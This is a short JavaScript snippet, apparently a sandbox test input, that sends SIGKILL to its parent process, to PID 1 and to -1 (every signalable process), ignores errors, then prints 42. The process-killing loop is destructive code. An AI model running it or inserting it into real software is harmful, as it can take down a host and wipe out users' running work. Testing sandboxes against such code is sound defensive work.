for (const pid of [process.ppid, 1, -1]) {
  try {
    process.kill(pid, "SIGKILL");
  } catch {}
}
console.log(42);
